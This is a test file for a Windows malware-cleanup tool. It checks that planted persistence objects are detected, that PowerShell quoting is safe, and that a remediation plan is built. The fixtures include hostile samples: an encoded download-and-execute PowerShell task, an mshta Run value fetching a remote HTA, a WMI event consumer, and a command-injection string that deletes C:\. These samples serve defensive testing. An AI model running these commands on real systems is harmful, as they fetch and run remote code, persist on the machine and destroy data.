// Tests for the clean-up plan of a Windows volume (issue 14): psQuote makes any text one PowerShell
// literal; a volume with a planted driver service and its file, an encoded PowerShell task, a task
// starting win1logon.exe, a Run value, a WMI subscription and a Fonts subfolder gives one finding per
// planted object (its clean twin none at medium or above), and its plan lists the PowerShell an
// administrator runs on the host while the steps --apply may run are file quarantines only.
import { describe, expect, it } from 'vitest';
import { defaultIocDir, loadRuleset } from '../iocs/load.js';
import { levelRank, type Finding } from '../model/finding.js';
import { runDetectors } from '../detect/run.js';
import { psQuote, psRegistryPath } from '../detect/windows.js';
import type { Windows } from '../snapshot/windows.js';
import {
  cleanWindows,
  driver,
  encodedPowerShell,
  runValue,
  task,
  windowsFile,
  windowsSnapshot,
} from '../../test/helpers/windows-detect-builders.js';
import { PLAYBOOKS, playbookFor } from '../classify/playbooks.js';
import { classify } from '../classify/verdict.js';
import { buildPlan, selectSteps, windowsQuarantineCommand } from './plan.js';
import { renderPlan } from './render.js';

const ruleset = await loadRuleset([defaultIocDir()]);

/** What PowerShell makes of a literal psQuote wrote: the inverse of its quoting, for the tests. */
function unquote(literal: string): string {
  const parts = literal.startsWith('(') ? literal.slice(1, -1).split(/\+(?=(?:'|\[char\]))/) : [literal];
  return parts
    .map((p) =>
      p.startsWith('[char]')
        ? String.fromCodePoint(Number(p.slice(6)))
        : p.slice(1, -1).replace(/(['\u2018\u2019\u201a\u201b])\1/g, '$1'),
    )
    .join('');
}

describe('psQuote', () => {
  it('single-quotes, doubling every kind of single quote; $, backticks and double quotes stay literal', () => {
    expect(psQuote('hy5.5')).toBe("'hy5.5'");
    expect(psQuote("it's")).toBe("'it''s'");
    expect(psQuote('a\u2019b')).toBe("'a\u2019\u2019b'");
    expect(psQuote('$env:TEMP `whoami` "x" $(calc)')).toBe('\'$env:TEMP `whoami` "x" $(calc)\'');
    expect(psQuote('')).toBe("''");
  });

  it('joins control characters and bidi overrides in as [char]N, so nothing unprintable is printed', () => {
    expect(psQuote('a\nb')).toBe("('a'+[char]10+'b')");
    expect(psQuote("x'\r\n")).toBe("('x'''+[char]13+[char]10)");
    expect(psQuote('\u202eexe.txt')).toBe("([char]8238+'exe.txt')");
    for (const s of ['a\nb', "x'\r\n", '\u202eexe.txt', "'; Remove-Item C:\\ -Recurse; '", 'tab\there'])
      expect(unquote(psQuote(s))).toBe(s);
  });

  it('writes registry keys as provider paths', () => {
    expect(psRegistryPath('HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run')).toBe(
      'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
    );
    expect(psRegistryPath('HKCU\\Software\\X')).toBe('HKCU:\\Software\\X');
    expect(psRegistryPath('HKU\\S-1-5-21-1\\Software')).toBe('Registry::HKEY_USERS\\S-1-5-21-1\\Software');
  });
});

/** The stock volume with issue 14's planted objects. */
function plantedWindows(): Windows {
  const w = cleanWindows();
  w.services!.push(driver('hy5.5', '\\??\\C:\\Windows\\Temp\\qzx81kd.sys', '/Windows/Temp/qzx81kd.sys'));
  w.files!.push(
    windowsFile({
      file: '/Windows/Temp/qzx81kd.sys',
      place: 'temp',
      pe: { signed: false, subsystem: 'native' },
    }),
    windowsFile({
      file: '/ProgramData/Intel/win1logon.exe',
      place: 'programdata',
      pe: { signed: false, subsystem: 'windows-gui' },
    }),
    windowsFile({
      file: '/Windows/Fonts/arial',
      place: 'fonts-subdir',
      type: 'dir',
      entries: ['x.exe', 'config.json'],
      entryCount: 2,
      executables: 1,
    }),
  );
  w.tasks!.push(
    task(
      '\\Microsoft\\Windows\\UpdateOrchestrator\\Refresh',
      'powershell.exe',
      encodedPowerShell("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/m.ps1')"),
      {
        hidden: true,
      },
    ),
    task('\\WinLogonCheck', 'C:\\ProgramData\\Intel\\win1logon.exe', '-s', {
      actions: [
        {
          type: 'exec',
          command: 'C:\\ProgramData\\Intel\\win1logon.exe',
          arguments: '-s',
          image: { file: '/ProgramData/Intel/win1logon.exe', exists: true },
        },
      ],
    }),
  );
  w.autostarts!.push(runValue({ value: "Helper's", data: 'mshta.exe http://198.51.100.7/p.hta' }));
  w.wmi!.push({
    source: 'mof',
    file: '/Windows/System32/wbem/AutoRecover/x.mof',
    consumer: {
      class: 'CommandLineEventConsumer',
      name: 'CoreUpd',
      commandLineTemplate: 'cmd.exe /c C:\\Windows\\Temp\\u.exe',
    },
    filter: {
      name: 'CoreFilter',
      query:
        "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
    },
    bound: true,
  });
  return w;
}

const serious = (findings: Finding[]) => findings.filter((f) => levelRank(f.level) >= levelRank('medium'));

describe('a Windows volume', () => {
  it('gives one finding per planted object, and its clean twin nothing at medium or above', () => {
    expect(serious(runDetectors(windowsSnapshot(cleanWindows()), ruleset).findings)).toEqual([]);
    const found = serious(runDetectors(windowsSnapshot(plantedWindows()), ruleset).findings);
    const summary = found.map((f) => [f.ruleId, f.kind ?? null]).sort();
    expect(summary).toEqual([
      ['windows-autostart', 'fileless'],
      ['windows-driver-service', 'driver'],
      ['windows-hidden-folder', 'hidden-directory'],
      // win1logon.exe (a ProtectionX name) and the task that starts it: one finding on the file.
      ['windows-odd-binary', 'driver'],
      ['windows-scheduled-task', 'fileless'],
      ['windows-wmi-subscription', 'fileless'],
    ]);
    const binary = found.find((f) => f.ruleId === 'windows-odd-binary')!;
    expect(binary.signals.map((s) => s.ruleId).sort()).toEqual([
      'windows-odd-binary',
      'windows-scheduled-task',
    ]);
  });

  it('plans PowerShell for the host and only file quarantines for --apply; no step edits a hive', () => {
    const { findings } = runDetectors(windowsSnapshot(plantedWindows()), ruleset);
    const plan = buildPlan(findings, { live: false, target: 'windows-volume' });
    const commands = plan.steps.flatMap((s) => (s.command ? [s.command] : []));
    expect(commands).toEqual(
      expect.arrayContaining([
        "sc.exe stop 'hy5.5'; sc.exe delete 'hy5.5'",
        "Stop-ScheduledTask -TaskPath '\\' -TaskName 'WinLogonCheck'; Unregister-ScheduledTask -TaskPath '\\' -TaskName 'WinLogonCheck' -Confirm:$false",
        "Remove-ItemProperty -LiteralPath 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'Helper''s'",
        "Get-CimInstance -Namespace root\\subscription -ClassName CommandLineEventConsumer | Where-Object Name -eq 'CoreUpd' | Remove-CimInstance",
        "Get-Process | Where-Object Path -eq 'C:\\ProgramData\\Intel\\win1logon.exe' | Stop-Process -Force",
      ]),
    );
    expect(
      commands.some((c) => c.includes("Compress-Archive -LiteralPath 'C:\\Windows\\Temp\\qzx81kd.sys'")),
    ).toBe(true);
    // Processes stop before services and tasks go, and those before the files are quarantined.
    const order = (re: RegExp) => plan.steps.findIndex((s) => re.test(s.command ?? ''));
    expect(order(/^Get-Process/)).toBeLessThan(order(/^sc\.exe stop 'hy5\.5'/));
    expect(order(/^sc\.exe stop 'hy5\.5'/)).toBeLessThan(
      order(/Compress-Archive -LiteralPath 'C:\\Windows\\Temp\\qzx81kd\.sys'/),
    );
    for (const s of plan.steps) {
      expect(['quarantine-file', 'windows-command', undefined]).toContain(s.action?.type);
      for (const t of s.touches) expect(t).not.toMatch(/\/config\/|ntuser\.dat/i);
      if (s.action?.type === 'windows-command')
        expect(s.skip?.en).toMatch(/never runs it and never edits a hive/);
    }
    const applied = selectSteps(plan, undefined).filter((s) => s.action && !s.skip);
    expect(applied.length).toBeGreaterThan(0);
    expect(new Set(applied.map((s) => s.action?.type))).toEqual(new Set(['quarantine-file']));
    const text = renderPlan(plan, 'en');
    expect(text).toContain("PS> sc.exe stop 'hy5.5'; sc.exe delete 'hy5.5'");
    expect(text).toMatch(/On the host|Stop and delete the service hy5\.5/);
  });

  it("names Windows steps in the verdict's playbooks, in both languages", () => {
    const snapshot = windowsSnapshot(plantedWindows());
    const { findings } = runDetectors(snapshot, ruleset);
    const verdict = classify(findings, snapshot.collection, {}, 'windows-volume');
    const driverKind = verdict.kinds.find((k) => k.kind === 'driver')!;
    expect(driverKind.playbook).toBe(playbookFor('driver', 'windows-volume'));
    const steps = driverKind.playbook.map((s) => s.en).join('\n');
    expect(steps).toContain('sc.exe delete');
    expect(steps).not.toMatch(/kernel module|cron|systemd/);
    for (const kind of ['open-source-miner', 'fileless', 'hidden-directory', 'driver'] as const)
      for (const step of playbookFor(kind, 'windows-volume'))
        expect(step['zh-CN']).toMatch(/[\u4e00-\u9fff]/);
    // Other targets keep the general playbooks.
    expect(classify(findings, snapshot.collection).kinds.find((k) => k.kind === 'driver')!.playbook).toBe(
      PLAYBOOKS.driver,
    );
    expect(playbookFor('web-script', 'windows-volume')).toBe(PLAYBOOKS['web-script']);
  });

  it('quarantines a file of the volume on the host with Compress-Archive before Remove-Item', () => {
    expect(windowsQuarantineCommand("/Users/Public/it's $x.exe", 4)).toBe(
      "New-Item -ItemType Directory -Force -Path 'C:\\minehunter-quarantine' | Out-Null; Compress-Archive -LiteralPath 'C:\\Users\\Public\\it''s $x.exe' -DestinationPath 'C:\\minehunter-quarantine\\4-it''s $x.exe.zip'; Remove-Item -LiteralPath 'C:\\Users\\Public\\it''s $x.exe' -Force",
    );
  });
});
